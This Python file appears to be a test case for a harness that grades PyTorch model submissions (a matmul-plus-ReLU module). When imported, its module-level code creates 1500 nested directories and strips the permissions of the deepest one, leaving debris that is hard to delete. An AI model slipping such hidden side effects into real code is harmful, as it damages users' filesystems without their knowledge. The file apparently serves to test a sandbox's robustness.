# Leaves folders nested deeper than a path can be long, closed to their owner.
#
# task: matmul_relu
# device: cpu
# class: F1
# expect: correct

import os

import torch
from torch import nn

here = os.getcwd()
for _ in range(1500):
    os.mkdir("deep")
    os.chdir("deep")
os.chmod(".", 0)
os.chdir(here)


class ModelNew(nn.Module):
    def __init__(self, columns):
        super().__init__()
        self.weight = nn.Parameter(torch.randn(columns, columns))

    def forward(self, x):
        return torch.relu(x @ self.weight)
